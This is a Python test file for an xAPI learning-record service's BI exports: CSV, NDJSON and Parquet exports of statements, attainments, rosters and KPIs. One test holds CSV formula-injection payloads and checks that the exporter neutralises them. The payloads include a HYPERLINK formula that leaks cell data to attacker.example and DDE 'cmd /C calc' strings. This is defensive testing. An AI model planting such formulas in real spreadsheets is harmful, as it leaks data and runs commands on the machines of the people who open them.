"""BI exports: flat statements matching GET statements, attainments and the KPI table."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import orjson
import pyarrow as pa
import pyarrow.parquet as pq

from service.outcomes.export import STATEMENT_COLUMNS
from service.outcomes.export_schema import EXPORTS
from tests.builders import activity, agent, statement
from tests.outcomes.support import PASSED, one_outcome_map, passed, post_statements, put_map, settle

XAPI = {"X-Experience-API-Version": "2.0.0"}


def rich(who: str) -> dict[str, Any]:
    built = passed(who, "m1", scaled=0.75)
    built["object"]["definition"] = {"name": {"de": "Modul", "en-US": "Module one"}}
    built["result"].update({"success": True, "duration": "PT1M30S", "response": "a,b"})
    built["context"] = {
        "registration": "6fa459ea-ee8a-4ca4-894e-db77e160355e",
        "platform": "Moodle",
        "contextActivities": {"parent": [{"id": "http://example.org/act/course"}]},
    }
    return built


async def test_statement_csv_matches_get_statements(api: httpx.AsyncClient) -> None:
    await post_statements(
        api,
        rich("ann"),
        rich("bob"),
        statement(actor=agent("ann"), obj=activity("other"), verb="read"),
    )
    params = {"agent": orjson.dumps(agent("ann")).decode(), "ascending": "true"}
    expected = (await api.get("/xapi/statements", params=params, headers=XAPI)).json()
    response = await api.get("/exports/statements.csv", params=params)
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert tuple(rows[0]) == STATEMENT_COLUMNS
    assert [r["id"] for r in rows] == [s["id"] for s in expected["statements"]]
    first = rows[0]
    assert first["actor_id"] == "mailto:ann@example.org"
    assert first["verb_id"] == PASSED
    assert first["object_name"] == "Module one"
    assert (first["result_success"], first["result_score_scaled"]) == ("true", "0.75")
    assert (first["result_duration"], first["result_duration_seconds"]) == ("PT1M30S", "90.0")
    assert first["result_response"] == "a,b"
    assert first["registration"] == "6fa459ea-ee8a-4ca4-894e-db77e160355e"
    assert first["parent_ids"] == "http://example.org/act/course"
    assert first["timestamp"] == expected["statements"][0]["timestamp"]
    assert first["stored"] == expected["statements"][0]["stored"]
    assert first["tenant"] == "default"
    limited = await api.get("/exports/statements.csv", params={"limit": "1"})
    assert len(list(csv.DictReader(io.StringIO(limited.text)))) == 1
    bad = await api.get("/exports/statements.csv", params={"verb": "not an iri"})
    assert bad.status_code == 400


async def test_statement_ndjson_pages_through_everything(api: httpx.AsyncClient) -> None:
    batch = [passed(f"l{i}", "m1") for i in range(1205)]
    for start in range(0, len(batch), 500):
        await post_statements(api, *batch[start : start + 500])
    response = await api.get("/exports/statements.ndjson", params={"verb": PASSED})
    lines = [orjson.loads(line) for line in response.content.splitlines()]
    assert len(lines) == 1205
    assert {line["id"] for line in lines} == {s["id"] for s in batch}
    assert list(lines[0]) == list(STATEMENT_COLUMNS)
    assert lines[0]["result_success"] is None


async def test_attainment_and_kpi_exports(api: httpx.AsyncClient) -> None:
    roster = [{"learner": "ann@example.org", "department": "Sales"}]
    await api.put("/outcomes/roster", json=roster)
    observation = {"kpi": "revenue", "org_unit": "Sales", "period": "2026-01", "value": 7}
    await api.put("/outcomes/kpis", json=[observation])
    await put_map(api, one_outcome_map({"all": [{"verbs": [PASSED]}]}, kpis=["revenue"]))
    source = passed("ann", "m1", timestamp="2026-01-05T00:00:00Z")
    await post_statements(api, source)
    await settle(api)
    response = await api.get("/exports/attainments.csv", params={"org_unit": "Sales"})
    (row,) = list(csv.DictReader(io.StringIO(response.text)))
    assert row["learner"] == "mailto:ann@example.org"
    assert row["department"] == "Sales"
    assert row["attained_at"] == "2026-01-05T00:00:00.000Z"
    assert row["evidence_statements"] == source["id"]
    assert row["outcome_name"] == "Outcome one"
    table = await api.get("/exports/outcome-kpis.ndjson")
    (cell,) = [orjson.loads(line) for line in table.content.splitlines()]
    assert cell["attainment_rate"] == 1.0
    assert cell["kpi_value"] == 7
    assert cell["pearson_r"] is None
    assert (cell["outcome_name"], cell["kpi_name"]) == ("Outcome one", "Revenue")
    rates = await api.get("/exports/rates.csv", params={"since": "2026-01", "until": "2026-02"})
    header = "outcome,org_unit,period,headcount,attained,new,rate,change,outcome_name"
    assert rates.text.splitlines()[0] == header
    assert (await api.get("/exports/attainments.xlsx")).status_code == 404


FORMULAS = {
    "actor": '=HYPERLINK("http://attacker.example/?leak="&A1,"open me")',
    "activity": "+cmd|' /C calc'!A0",
    "verb": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


async def test_csv_cells_that_start_a_formula_are_neutralised(api: httpx.AsyncClient) -> None:
    """OWASP CSV injection: a text cell starting with = + - @ tab or CR gets a leading `'`, so a
    spreadsheet shows it instead of running it; numbers (a score of -0.5) stay numbers."""
    built = passed("mal", "m1", scaled=-0.5)
    built["actor"]["name"] = FORMULAS["actor"]
    built["object"]["definition"] = {"name": {"en-US": FORMULAS["activity"]}}
    built["verb"]["display"] = {"en-US": FORMULAS["verb"]}
    built["result"]["response"] = "-2+3"
    built["context"] = {"platform": FORMULAS["tab"], "language": "en"}
    second = passed("cr", "m2", result={"response": FORMULAS["cr"]})
    await post_statements(api, built, second)
    response = await api.get("/exports/statements.csv", params={"ascending": "true"})
    assert response.status_code == 200
    first, other = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert first["actor_name"] == "'" + FORMULAS["actor"]
    assert first["object_name"] == "'" + FORMULAS["activity"]
    assert first["verb_display"] == "'" + FORMULAS["verb"]
    assert first["result_response"] == "'-2+3"
    assert first["platform"] == "'" + FORMULAS["tab"]
    assert other["result_response"] == "'" + FORMULAS["cr"]
    assert first["result_score_scaled"] == "-0.5"  # a number, not text: left alone
    assert first["actor_id"] == "mailto:mal@example.org"  # ordinary text is untouched
    ndjson = await api.get("/exports/statements.ndjson", params={"ascending": "true"})
    line = orjson.loads(ndjson.content.splitlines()[0])
    assert line["actor_name"] == FORMULAS["actor"]  # JSON is data, not a spreadsheet


async def test_roster_and_kpi_observation_exports(api: httpx.AsyncClient) -> None:
    """The warehouse joins statements, attainments, the roster and KPIs without a second source."""
    roster = [
        {"learner": "ann@example.org", "name": "Ann", "department": "Sales"},
        {"learner": "account:https://hr.example|e42", "department": "=Ops"},
    ]
    assert (await api.put("/outcomes/roster", json=roster)).status_code in (200, 201)
    observation = {"kpi": "revenue", "org_unit": "Sales", "period": "2026-01", "value": 7.5}
    await api.put("/outcomes/kpis", json=[observation])
    rows = list(csv.DictReader(io.StringIO((await api.get("/exports/roster.csv")).text)))
    by_learner = {row["learner"]: row for row in rows}
    ann = by_learner["mailto:ann@example.org"]
    assert (ann["learner_email"], ann["department"], ann["name"]) == (
        "ann@example.org",
        "Sales",
        "Ann",
    )
    hr = by_learner["account:https://hr.example|e42"]
    assert (hr["learner_account_home_page"], hr["learner_account_name"]) == (
        "https://hr.example",
        "e42",
    )
    assert hr["department"] == "'=Ops"  # the formula guard holds in every CSV export
    lines = (await api.get("/exports/kpis.ndjson")).content.splitlines()
    (first,) = [orjson.loads(line) for line in lines]
    assert first == {
        "kpi": "revenue", "kpi_name": None, "kpi_unit": None, "org_unit": "Sales",
        "period": "2026-01", "value": 7.5,
    }  # fmt: skip
    await put_map(api, one_outcome_map({"verbs": [PASSED]}, kpis=["revenue"]))
    await settle(api)
    named = orjson.loads((await api.get("/exports/kpis.ndjson")).content.splitlines()[0])
    assert named["kpi_name"] == "Revenue"
    assert (await api.get("/exports/roster.csv", params={"x": "1"})).status_code == 400


async def test_every_outcome_export_as_parquet(api: httpx.AsyncClient) -> None:
    roster = [{"learner": "ann@example.org", "department": "Sales"}]
    await api.put("/outcomes/roster", json=roster)
    observation = {"kpi": "revenue", "org_unit": "Sales", "period": "2026-01", "value": 7}
    await api.put("/outcomes/kpis", json=[observation])
    await put_map(api, one_outcome_map({"all": [{"verbs": [PASSED]}]}, kpis=["revenue"]))
    await post_statements(api, passed("ann", "m1", timestamp="2026-01-05T00:00:00Z"))
    await settle(api)
    for name in ("attainments", "rates", "outcome-kpis", "roster", "kpis"):
        response = await api.get(f"/exports/{name}.parquet")
        assert response.status_code == 200, (name, response.text)
        table = pq.read_table(io.BytesIO(response.content))
        assert table.column_names == list(EXPORTS[name][1]), name
        assert table.num_rows >= 1, name
    attained = pq.read_table(io.BytesIO((await api.get("/exports/attainments.parquet")).content))
    assert attained.schema.field("attained_at").type == pa.timestamp("ms", tz="UTC")
    assert attained.to_pylist()[0]["learner"] == "mailto:ann@example.org"
    kpis = pq.read_table(io.BytesIO((await api.get("/exports/kpis.parquet")).content))
    assert kpis.to_pylist()[0]["value"] == 7.0
